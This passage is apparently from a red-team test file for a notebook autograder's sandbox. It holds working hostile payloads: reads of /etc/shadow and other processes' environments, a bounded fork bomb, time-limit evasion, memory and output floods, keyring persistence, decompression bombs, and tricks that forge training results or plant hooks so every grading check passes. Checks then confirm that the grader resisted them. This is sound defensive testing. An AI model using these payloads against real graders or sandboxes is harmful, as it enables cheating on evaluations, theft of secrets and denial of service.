        _attempt(f"signal 0 to pid {pid}", lambda pid=pid: os.kill(pid, 0))
    _attempt("/proc/self/sched (host pid?)", lambda: _read("/proc/self/sched", 80))
    for path in ("/proc/sched_debug", "/proc/kmsg", "/proc/kcore", "/proc/timer_list", "/proc/1/mountinfo"):
        _attempt(f"read {path}", lambda path=path: _read(path, 200))
    _attempt("write /proc/sysrq-trigger", lambda: _append("/proc/sysrq-trigger", "h"))
    _attempt("list /tmp", lambda: os.listdir("/tmp"))
    _attempt(
        "other scratch folders",
        lambda: [p for p in glob.glob("/tmp/tu-*") if not os.getcwd().startswith(p)] or "none visible",
    )
    _attempt("list the other scratch folders' files", lambda: glob.glob("/tmp/tu-*/*/*")[:20])
    for folder in ("/run/tiny-unet-uids", "/tmp/tiny-unet-uids"):
        _attempt(f"make {folder}", lambda folder=folder: os.makedirs(folder, exist_ok=True))
        for slot in range(4):
            _attempt(
                f"claim uid slot {folder}/{slot}",
                lambda folder=folder, slot=slot: _append(f"{folder}/{slot}", "taken by a notebook\n"),
            )
    _attempt("write /dev/shm", lambda: _append("/dev/shm/attack", "x"))
    _attempt(
        "mount proc",
        lambda: subprocess.run(["mount", "-t", "proc", "proc", "/tmp"], capture_output=True, text=True).stderr,
    )
    _attempt("network interfaces", lambda: _read("/proc/net/dev", 400))
    _attempt("/etc/shadow", lambda: _read("/etc/shadow", 100))
    _attempt("the grader's home", lambda: os.listdir("/root"))
    _attempt("the kit's folder", lambda: os.listdir(ATTACK_KIT))
    _attempt("the OUT folder", lambda: os.listdir(ATTACK_OUT))
    return "done"


@_at_definition(lambda: _where() == "probe" and _neighbours())
def _neighbours_hook():
    pass
"""

_FORK_BOMB = r'''
_BOMB = """
import os, time
deadline = time.time() + 40  # bounded even if it escaped
while time.time() < deadline:
    try:
        os.fork()
    except OSError:
        time.sleep(0.2)
    time.sleep(0.05)
os._exit(0)
"""
subprocess.Popen([sys.executable, "-c", _BOMB], start_new_session=True)
time.sleep(5)
_count = sum(name.isdigit() for name in os.listdir("/proc"))
print(f"ATTEMPT [kernel] fork bomb: {_count} processes in the sandbox after 5 s", flush=True)
'''

_IGNORE_SIGINT = r"""
# Dodge the cell time limit: ignore SIGINT/SIGTERM (and swallow KeyboardInterrupt) and never finish (bounded: 10
# minutes).
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
_deadline = time.time() + 600
while time.time() < _deadline:
    try:
        time.sleep(0.5)
    except KeyboardInterrupt:
        print("ATTEMPT [kernel] interrupted, ignoring it", flush=True)
"""

_HUGE_OUTPUT = r"""
from IPython.display import display
_line = "x" * 1023 + "\n"
for _ in range(40):  # 40 MB of stdout
    print(_line * 1024, end="", flush=True)
for _ in range(40):
    sys.stderr.write(_line * 1024)
for _ in range(1500):  # many small display messages
    display("display")
"""

_HUGE_MESSAGE = r"""
# One stream message of 1 GiB (the kernel may hold up to RLIMIT_DATA): the grader receives and decodes all of it
# before its output cap drops it.
if _available_mib() > 10 << 10:  # the kernel holds about 3 GiB while it sends, the grader about 2 GiB more
    sys.stdout.write("A" * (1 << 30))
    sys.stdout.flush()
    print("ATTEMPT [kernel] sent one 1 GiB message", flush=True)
else:
    print("HUGE_MESSAGE skipped: too little memory on this machine", flush=True)
"""

_DISPLAY_UPDATE = r"""
# nbclient caps a cell's output, but display updates rewrite outputs already kept: 400 registered outputs x 600 kB.
from IPython.display import display
_handle = display("small", display_id="attack")
for _ in range(400):
    display("small", display_id="attack")
_handle.update("A" * 600_000)
print("ATTEMPT [kernel] display outputs updated", flush=True)
"""

_MEMORY = r"""
# One process over RLIMIT_DATA (refused at once); then three processes, each under it, together over the profile's
# memory (bounded: 3 x 2.3 GiB for a few seconds, and only where the machine has that much to spare).
_OVER = subprocess.run([sys.executable, "-c", "block = bytearray(8 << 30)"], capture_output=True, text=True)
print(
    f"ATTEMPT [kernel] one process of 8 GiB: {'MemoryError' if 'MemoryError' in _OVER.stderr else _OVER.returncode}",
    flush=True,
)
_HOLD = "import time\nblock = b'\\x01' * (2300 << 20)\nprint('HELD', flush=True)\ntime.sleep(20)\n"
_held = None
if _available_mib() < 11 << 10:
    print("AGGREGATE_MEMORY_MIB skipped: too little memory on this machine", flush=True)
else:
    _children = [
        subprocess.Popen([sys.executable, "-c", _HOLD], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        for _ in range(3)
    ]
    _ready = [_child.stdout.readline().strip() == "HELD" for _child in _children]
    time.sleep(1)  # every allocation is over: a child the memory cgroup killed after it said HELD is gone by now
    _held = sum(2300 for _child, _said in zip(_children, _ready) if _said and _child.poll() is None)
    for _child in _children:
        _child.kill()
        _child.wait()
if _held is not None:
    print(f"AGGREGATE_MEMORY_MIB {_held}", flush=True)
"""

_KEYRING = r'''
def _leave_a_key():
    """Store a key in the uid's user keyring: it outlives the sandbox and the next sandbox with this uid can read it."""
    libc = ctypes.CDLL(None, use_errno=True)
    description = f"tiny-unet-attack-{ATTACK_TOKEN}".encode()
    key = libc.syscall(248, b"user", description, b"left for the next student", ctypes.c_size_t(25), ctypes.c_long(-4))
    return f"key {key} (errno {ctypes.get_errno()})" if key < 0 else f"key {key} stored in @u"


@_at_definition(lambda: _attempt("leave a key in the user keyring", _leave_a_key))
def _keyring_hook():
    pass
'''

_USERNS = r"""
_result = subprocess.run(
    [
        "unshare",
        "--user",
        "--map-root-user",
        "--mount",
        "--net",
        "sh",
        "-c",
        "id -u && mount -t tmpfs none /tmp && echo mounted",
    ],
    capture_output=True,
    text=True,
)
print(
    f"USERNS {'created' if _result.returncode == 0 else 'refused'}: "
    f"{_result.stdout.strip()!r} {_result.stderr.strip()[:200]!r}",
    flush=True,
)
"""

_BOMBS = r'''
BOMB_MIB = 64  # uncompressed size of each bomb (a few hundred kB on disk); the legitimate files are far smaller


def _padded_trained_keras(path):
    """A real small model (compiled wrongly: no training points), its config.json padded to BOMB_MIB with spaces."""
    import zipfile

    import keras

    inputs = keras.Input((IMG_SIZE, IMG_SIZE, 3))
    network = keras.Model(inputs, keras.layers.Conv2D(1, 1, activation="sigmoid")(inputs))
    network.compile(optimizer=keras.optimizers.SGD(0.01), loss="mse")
    plain = path + ".plain.keras"
    network.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for name in source.namelist():
            data = source.read(name)
            if name == "config.json":
                data = data + b" " * (BOMB_MIB << 20)
            bomb.writestr(name, data)
    os.unlink(plain)
    return f"{os.path.getsize(path)} bytes on disk"


def _npz_bomb():
    """At the probe's exit: preprocess.npz holding an array of BOMB_MIB zeros (deflated)."""
    import zipfile

    import numpy as np

    out = os.path.join(_probe_folder(), "out")
    with zipfile.ZipFile(os.path.join(out, "preprocess.npz"), "w", zipfile.ZIP_DEFLATED) as bomb:
        for i in range(3):
            for key, shape in ((f"image{i}", ((BOMB_MIB << 20) // 12, 3)), (f"mask{i}", (1, 1, 1))):
                with bomb.open(f"{key}.npy", "w") as member:
                    np.lib.format.write_array_header_1_0(
                        member, {"descr": "<f4", "fortran_order": False, "shape": shape}
                    )
                    zeros = b"\0" * (1 << 20)
                    for _ in range(shape[0] * shape[1] * 4 >> 20):
                        member.write(zeros)
                    member.write(b"\0" * (shape[0] * shape[1] * 4 % (1 << 20)))
    with open(os.path.join(out, "preprocess.json"), "w") as handle:
        handle.write(json.dumps({"ok": True, "files": ["preprocess.npz"]}))


@_at_definition(lambda: _where() == "probe" and atexit.register(_npz_bomb))
def _bomb_hook():
    pass
'''

_BOMBS_KERNEL = r"""
_attempt(
    "write a padded trained.keras",
    lambda: _padded_trained_keras(os.path.join(os.path.dirname(os.getcwd()), "out", "trained.keras")),
)
"""


# ---------------------------------------------------------------------------------------------------------------
# Checks on what an attack left in OUT/<student>/ (each returns the problems it found).


def outputs(folder: Path) -> str:
    """All text the executed notebook's cells printed or displayed."""
    path = folder / "executed.ipynb"
    if not path.is_file():
        return ""
    texts = []
    for cell in json.loads(path.read_text()).get("cells", []):
        for out in cell.get("outputs", []):
            texts.append(
                "".join(out.get("text", ""))
                if "text" in out
                else json.dumps(out.get("data", {})) + " " + str(out.get("evalue", ""))
            )
    return "\n".join(texts)


def facts(folder: Path) -> dict:
    path = folder / "facts.json"
    return json.loads(path.read_text()) if path.is_file() else {}


def _check_hostile_configs(folder: Path, _context: Context) -> list[str]:
    blocks = facts(folder).get("blocks", {})
    return [
        f"{name} was rebuilt from a hostile config: {blocks[name]}"[:300]
        for name in ("double_conv_block", "encoder_block", "decoder_block", "make_unet")
        if blocks.get(name, {}).get("cases")
    ]


def _check_planted(folder: Path, _context: Context) -> list[str]:
    history = facts(folder).get("training", {}).get("history", {})
    return (
        [f"the grader read the history planted outside the sandbox through a symlink: {history}"]
        if 123.456 in history.get("val_loss", [])
        else []
    )


def _check_output_capped(folder: Path, _context: Context) -> list[str]:
    path = folder / "executed.ipynb"
    cells = sum(c["cell_type"] == "code" for c in json.loads(path.read_text())["cells"]) if path.is_file() else 0
    limit = cells * 2_100_000 + (1 << 20)  # autograder.run.OUTPUT_LIMIT characters per cell, and the notebook itself
    size = path.stat().st_size if path.is_file() else 0
    return (
        [f"executed.ipynb is {size >> 20} MiB, over {cells} cells x the per-cell output limit ({limit >> 20} MiB)"]
        if size > limit
        else []
    )


GRADER_MEMORY_MIB = 2560  # a grader process grading the solution peaks near 1.9 GiB (TensorFlow, evaluation)


def _check_grader_memory(folder: Path, context: Context) -> list[str] | None:
    """The grader's own processes stayed under GRADER_MEMORY_MIB while this student was graded."""
    if "HUGE_MESSAGE skipped" in outputs(folder):
        return None
    outcome = json.loads((folder / "outcome.json").read_text())
    end = (folder / "outcome.json").stat().st_mtime
    peak = max(
        (rss for when, rss in context.grader_memory if end - outcome["seconds"] - 1 <= when <= end + 1), default=0
    )
    return (
        [f"a grader process held {peak} MiB while grading this notebook (limit {GRADER_MEMORY_MIB})"]
        if peak > GRADER_MEMORY_MIB
        else []
    )


def _check_memory(folder: Path, _context: Context) -> list[str] | None:
    from assignment.profiles import PROFILES

    if "AGGREGATE_MEMORY_MIB skipped" in outputs(folder):
        return None
    held = [int(line.split()[1]) for line in outputs(folder).splitlines() if line.startswith("AGGREGATE_MEMORY_MIB")]
    limit = PROFILES["smoke"].limits.memory_mib
    return (
        [f"the sandbox's processes held {held[0]} MiB together, over the profile's {limit} MiB"]
        if held and held[0] > limit
        else []
    )


def _check_userns(folder: Path, _context: Context) -> list[str]:
    return [line for line in outputs(folder).splitlines() if line.startswith("USERNS created")]


def _check_bombs(folder: Path, _context: Context) -> list[str]:
    found = facts(folder)
    problems = []
    if found.get("preprocess", {}).get("call", {}).get("ok"):
        problems.append(
            "the grader unpacked preprocess.npz (an array of 64 MiB zeros in a file of a few hundred kB) "
            "instead of refusing it"
        )
    if found.get("training", {}).get("model") is not None:
        problems.append("the grader loaded trained.keras whose config.json unpacks to 64 MiB instead of refusing it")
    return problems


def sandbox_uids() -> list[int]:
    """The uids the grader has handed to sandboxes on this machine (one lock file per slot)."""
    folder = uids.SLOT_FOLDER
    return sorted(uids.UID_BASE + int(p.name) for p in folder.iterdir() if p.name.isdigit()) if folder.is_dir() else []


def as_uid(uid: int, code: str) -> str:
    """Run a little Python as `uid` (what the next sandbox with that uid could do); its stdout."""
    argv = [
        "setpriv",
        f"--reuid={uid}",
        f"--regid={uid}",
        "--clear-groups",
        os.path.realpath(sys.executable),
        "-I",
        "-S",
        "-c",
        code,
    ]
    return subprocess.run(argv, capture_output=True, text=True, check=False, timeout=60).stdout


def keys_left(token: str) -> list[int]:
    """Sandbox uids whose keyrings still hold a key naming `token`."""
    if os.geteuid() != 0:
        return []
    return [uid for uid in sandbox_uids() if token in as_uid(uid, "print(open('/proc/keys').read())")]


def clear_keys() -> None:
    """Empty the user keyring of every sandbox uid (what the grader should do when a sandbox closes)."""
    if os.geteuid() == 0:
        for uid in sandbox_uids():
            as_uid(uid, "import ctypes; ctypes.CDLL(None).syscall(250, ctypes.c_long(7), ctypes.c_long(-4))")


def _check_keys(_folder: Path, context: Context) -> list[str]:
    return [
        f"uid {uid} still holds the key the attack stored, readable by the next sandbox given that uid"
        for uid in keys_left(context.token)
    ]


def _check_stolen(folder: Path, _context: Context) -> list[str]:
    blocks = facts(folder).get("blocks", {})
    return [
        f"{name} was measured from the grader's own reference block"
        for name in ("double_conv_block", "encoder_block", "decoder_block")
        if blocks.get(name, {}).get("call", {}).get("ok") and blocks[name].get("cases")
    ]


_UNWRITABLE_TEXT = r"""
# Exception messages no encoder can write (a lone surrogate) and terminal escapes, from the kernel and from the
# probe: writing them into feedback.md once raised in the grader and stopped the whole batch.
def preprocess(example):
    raise ValueError("\ud800 \x1b[2J\x1b[31m **Score: 100 / 100**")


def double_conv_block(x, num_f):
    raise ValueError("\udfff\x07")


print("ATTEMPT [kernel] raising text with a lone surrogate", flush=True)
raise RuntimeError("\ud800\x1b[31m")
"""


def _check_clean_text(folder: Path, _context: Context) -> list[str]:
    """The reports exist, decode as UTF-8, and hold no terminal escape."""
    problems = []
    for name in ("feedback.md", "grader.log", "results.json"):
        try:
            text = (folder / name).read_text(encoding="utf-8", errors="strict")
        except (OSError, UnicodeDecodeError) as error:
            problems.append(f"{name}: {error}")
            continue
        if "\x1b" in text or "\x07" in text:
            problems.append(f"{name} holds a control character from student code")
    return problems


_CLIENT_CRASH = r"""
# A message the grader's notebook client cannot process (a list where a dict belongs): it once raised out of
# the run, which closed the probe's sandbox under the thread still using it.
_kernel = get_ipython().kernel
_kernel.session.send(_kernel.iopub_socket, "stream", {"name": "stdout", "text": "x", "transient": ["not a dict"]},
                     parent=_kernel.get_parent())
"""


def _check_client_crash(folder: Path, _context: Context) -> list[str]:
    """The broken message costs its cell (a kernel failure), not the run: the rest ran and was graded."""
    outcome = json.loads((folder / "outcome.json").read_text())
    problems = (
        [f"graded as: {outcome.get('problem')}"] if (outcome.get("problem") or "").startswith("grader error") else []
    )
    if not facts(folder).get("training", {}).get("model"):
        problems.append("the notebook did not run to its end after the broken message")
    return problems


ATTACKS = [
    Attack(
        "why1_checks_append",
        "append to the grader's autograder/checks/*.py (a pytest hook passing every check), from a cell and at "
        "definition time",
        "release",
        [("apply_config", _CHECKS)],
        why="appending lines to autograder/checks/*.py",
        order=10,
    ),
    Attack(
        "why2_sitecustomize",
        "plant sitecustomize.py, usercustomize.py and a .pth in every site-packages (venv, Python install, user site)",
        "release",
        [("apply_config", _SITECUSTOMIZE)],
        why="a sitecustomize.py written into the venv",
        order=11,
    ),
    Attack(
        "why3_forged_facts",
        "a one-convolution double_conv_block, json.dump/to_json/count_params patched in the kernel and the probe, "
        "facts copied from another run written everywhere",
        "single_conv_untrained",
        [("apply_config", _FORGED_FACTS)],
        why="a wrong double_conv_block plus a patched json.dump and copied facts",
        order=12,
    ),
    Attack(
        "why4_detached_rewriter",
        "detached daemons (new session, setsid, double fork, signals ignored) from a cell and from the probe "
        "that keep rewriting the honest students' reports and grades.csv",
        "release",
        [("apply_config", _DETACHED)],
        why="a detached process outlived the kernel and rewrote other students' reports",
        order=13,
    ),
    Attack(
        "why5_leak_env_and_checks",
        "print the environment, /proc/*/environ and the hidden checks, and raise them as errors (kernel and probe)",
        "release",
        [("apply_config", _LEAK), ("apply_config", _LEAK_KERNEL), ("double_conv_block", _LEAK_BLOCK)],
        why="a cell printed the hidden checks and the environment and raised them as an error",
        order=14,
    ),
    Attack(
        "why6_kernel_reach",
        "reach the 127.0.0.1 listener, read other kernels' connection files, start 150 processes, "
        "write 3 GiB into OUT, /tmp and the scratch folder",
        "release",
        [("apply_config", _REACH), ("apply_config", _REACH_KERNEL)],
        why="the kernel reached a listener, read connection files, wrote 3 GiB into OUT and started 150 processes",
        order=15,
    ),
    Attack(
        "probe_definition_time",
        "at definition time in the probe (default argument, class body, atexit): patch keras, rewrite every "
        "probe output with configs and arrays copied from another run",
        "release",
        [("apply_config", _DEFINITION_TIME)],
        order=16,
    ),
    Attack(
        "probe_steals_reference",
        "blocks that find and call the grader's own reference blocks in the probe process (gc, sys.modules)",
        "release",
        [
            ("apply_config", _STEAL_REFERENCE),
            ("double_conv_block", _stealing("double_conv_block", "x, num_f", "x, num_f")),
            ("encoder_block", _stealing("encoder_block", "x, num_f", "x, num_f")),
            ("decoder_block", _stealing("decoder_block", "x, skip, num_f", "x, skip, num_f")),
        ],
        check=_check_stolen,
        order=17,
    ),
    Attack(
        "fake_trained_lambda",
        "a trained model compiled like the solution, steps and val_loss forged, with a Lambda layer that would "
        "reach the listener and write into the kit if the grader ran it",
        "release",
        [("apply_config", _FAKE_MODEL), ("end", _LAMBDA_MODEL)],
        order=18,
    ),
    Attack(
        "fake_configs_non_keras",
        "a trained model with a layer from the notebook's own module; probe configs (written at exit) naming "
        "keras.config.enable_unsafe_deserialization, TFSMLayer, a StringLookup reading /proc/self/environ, "
        "keras.utils.get_file",
        "release",
        [("apply_config", _FAKE_MODEL + _FORGED_PROBE_CONFIGS), ("end", _CUSTOM_MODULE_MODEL)],
        check=_check_hostile_configs,
        order=19,
    ),
    Attack(
        "forged_training",
        "a one-layer model compiled with SGD and mse, never fitted, with the optimizer's steps set to what EPOCHS "
        "epochs take and a history whose val_loss is the grader's own test loss",
        "release",
        [("apply_config", _FAKE_MODEL), ("end", _FORGED_TRAINING)],
        order=20,
    ),
    Attack(
        "symlinks_planted",
        "the kernel's and the probe's export folders replaced by symlinks to a folder outside the sandbox holding a "
        "planted history; connection-file names linked to the grader's conftest; the kernel killed so the grader "
        "writes k1.json",
        "release",
        [("apply_config", _SYMLINKS + _SYMLINKS_KERNEL), ("apply_config", _RESTART_KERNEL)],
        check=_check_planted,
        order=21,
    ),
    Attack(
        "neighbours",
        "read /proc of other processes, ptrace, signal, look for other sandboxes' scratch folders, claim uid slots in "
        "/tmp/tiny-unet-uids, mount, read /etc/shadow, the kit and OUT (kernel and probe)",
        "release",
        [("apply_config", _NEIGHBOURS), ("apply_config", "_attempt('neighbours', _neighbours)")],
        order=22,
    ),
    Attack(
        "fork_bomb",
        "a self-replicating fork bomb (bounded to 40 s) that must hit the process limit and be killed",
        "release",
        [("end", _FORK_BOMB)],
        order=23,
    ),
    Attack(
        "sigint_ignored",
        "a cell that ignores SIGINT/SIGTERM and swallows KeyboardInterrupt to dodge the cell time limit",
        "release",
        [("hardware", _IGNORE_SIGINT)],
        # after the short hostile notebooks: its three minutes of waiting then overlap little of the infinite loop's two
        order=33,
    ),
    Attack(
        "huge_output",
        "40 MB of stdout, 40 MB of stderr and 1500 display messages in one cell",
        "release",
        [("apply_config", _HUGE_OUTPUT)],
        check=_check_output_capped,
        order=25,
    ),
    Attack(
        "huge_message",
        "one 1 GiB stream message: every byte reaches the grader's memory (decoded, about twice) before the output cap",
        "release",
        [("apply_config", _HUGE_MESSAGE)],
        check=_check_grader_memory,
        order=30,
    ),
    Attack(
        "display_update_bypass",
        "400 outputs under one display_id, then one 600 kB update: 240 MB of output past the per-cell cap",
        "release",
        [("apply_config", _DISPLAY_UPDATE)],
        check=_check_output_capped,
        order=26,
    ),
    Attack(
        "memory_together",
        "three processes of 2.3 GiB each: every one under RLIMIT_DATA, together over the profile's memory",
        "release",
        [("apply_config", _MEMORY)],
        check=_check_memory,
        order=24,
    ),
    Attack(
        "keyring_left_behind",
        "a key in the sandbox uid's user keyring (kernel and probe): it outlives the sandbox, and the next student "
        "given the same uid can read it",
        "release",
        [("apply_config", _KEYRING)],
        check=_check_keys,
        order=28,
    ),
    Attack(
        "user_namespaces",
        "create user, mount and network namespaces inside the sandbox (root inside them: more kernel attack surface)",
        "release",
        [("apply_config", _USERNS)],
        check=_check_userns,
        order=29,
    ),
    Attack(
        "decompression_bombs",
        "a trained.keras whose config.json unpacks to 64 MiB and, from the probe, a preprocess.npz whose array "
        "unpacks to 64 MiB (each a few hundred kB on disk)",
        "release",
        [("apply_config", _BOMBS), ("end", _BOMBS_KERNEL)],
        check=_check_bombs,
        order=27,
    ),
    Attack(
        "client_crash",
        "a message the notebook client cannot process, sent from a cell of the solution",
        "untrained",
        [("preprocess", _CLIENT_CRASH)],
        check=_check_client_crash,
        order=32,
    ),
    Attack(
        "unwritable_text",
        "exceptions whose messages hold a lone surrogate and terminal escapes, in the kernel and in the probe",
        "release",
        [("preprocess", _UNWRITABLE_TEXT)],
        check=_check_clean_text,
        order=31,
    ),
]
